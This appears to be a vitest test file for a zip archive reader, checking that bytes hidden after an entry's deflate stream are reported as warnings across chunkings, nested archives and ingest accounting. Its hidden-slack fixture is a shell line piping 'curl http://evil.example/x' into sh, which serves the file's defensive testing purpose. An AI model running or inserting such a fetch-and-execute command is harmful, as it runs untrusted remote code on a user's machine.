/**
 * Bytes after the end of a zip entry's deflate stream, inside its declared compressed size: read
 * exactly as before (ignored, as miniz and node's InflateRaw ignore them), but no longer silently:
 * the entry's source gets "N bytes after the end of the deflate stream, ignored". Formerly nothing
 * said that data was hidden in the entry's slack.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { bufferSource } from '../../core/byte-source.js';
import { walkBundle, type BundleFile } from '../bundle.js';
import { auditLines, jsonl } from '../hostile-fixtures/audit-lines.js';
import { accountingProblems } from '../hostile-fixtures/case-oracle.js';
import { ingestInMemory } from '../hostile-fixtures/ingest-in-memory.js';
import { inflateBounded } from './bounded-inflate.js';
import { bytesStream } from './byte-streams.js';
import { buildTar, buildZip } from './fixture-archives.js';
import { memoryBundleRoot } from './memory-root.js';
import { openZip } from './zip-reader.js';

const TEXT = Buffer.from(jsonl(auditLines('S', 400)));
const SLACK = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');

async function readFirst(zipBytes: Uint8Array): Promise<{ bytes: Buffer; warnings: string[]; archive: string[] }> {
  const zip = await openZip(bufferSource('a.zip', zipBytes));
  const parts: Buffer[] = [];
  const warnings: string[] = [];
  for await (const c of zip.stream(zip.entries[0]!, (w) => warnings.push(w))) parts.push(Buffer.from(c));
  return { bytes: Buffer.concat(parts), warnings, archive: zip.warnings };
}

describe('bytes after a zip entry deflate stream', () => {
  const dir = mkdtempSync(join(tmpdir(), 'mlshield-slack-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('are ignored as before, and said once on the entry and on the archive', async () => {
    const r = await readFirst(buildZip([{ name: 'e.jsonl', data: TEXT, method: 8, slack: SLACK }]));
    expect(r.bytes.equals(TEXT)).toBe(true);
    expect(r.warnings).toEqual([`a.zip: e.jsonl has ${SLACK.length} bytes after the end of the deflate stream, ignored`]);
    expect(r.archive).toEqual(r.warnings);
  });

  it('are counted whatever the chunking, a megabyte of slack included; none, nothing said', async () => {
    const big = Buffer.alloc(3 << 20, 0x41); // over three of the reader's 1 MiB chunks
    expect((await readFirst(buildZip([{ name: 'e.jsonl', data: TEXT, method: 8, slack: big }]))).warnings).toEqual([
      `a.zip: e.jsonl has ${big.length} bytes after the end of the deflate stream, ignored`,
    ]);
    const clean = await readFirst(buildZip([{ name: 'e.jsonl', data: TEXT, method: 8 }]));
    expect([clean.bytes.equals(TEXT), clean.warnings, clean.archive]).toEqual([true, [], []]);
    // The stream ending exactly at a chunk boundary, then more chunks: through inflateBounded directly.
    const body = deflateRawSync(TEXT);
    const bounds = { name: 'x', maxBytes: 1 << 24, maxRatio: 200 };
    for (const chunk of [1, 7, body.length, 4096]) {
      let used = -1;
      const parts: Uint8Array[] = [];
      for await (const c of inflateBounded('deflate-raw', bytesStream(Buffer.concat([body, SLACK]), chunk), { ...bounds, onEnd: (n) => (used = n) })) parts.push(c);
      expect([Buffer.concat(parts).equals(TEXT), used], `chunk ${chunk}`).toEqual([true, body.length]);
    }
  });

  it('reach the bundle item of the entry once it has been read, and every record is still accounted for', async () => {
    const zip = buildZip([{ name: 'audit.log', data: TEXT, method: 8, slack: SLACK }]);
    const items: BundleFile[] = [];
    for await (const i of walkBundle(memoryBundleRoot('b', { 'l.zip': zip, 't.tar': buildTar([{ name: 'in.zip', data: zip }]) }))) if (i.kind === 'file') items.push(i);
    expect(items.map((i) => i.path)).toEqual(['l.zip!/audit.log', 't.tar!/in.zip!/audit.log']);
    for (const i of items) {
      for await (const _ of i.open());
      expect(i.warnings.filter((w) => w.includes('after the end of the deflate stream')), i.path).toEqual([
        expect.stringMatching(new RegExp(`^(l\\.zip|t\\.tar!/in\\.zip): audit\\.log has ${SLACK.length} bytes after the end of the deflate stream, ignored$`)),
      ]);
    }
    const { r, c } = await ingestInMemory(dir, { 'l.zip': zip });
    expect(accountingProblems(c, { records: { 'l.zip!/audit.log': 400 }, contents: { 'l.zip!/audit.log': TEXT } })).toEqual([]);
    expect(r.sources[0]!.warnings!.join()).toMatch(/bytes after the end of the deflate stream, ignored/);
  });
});
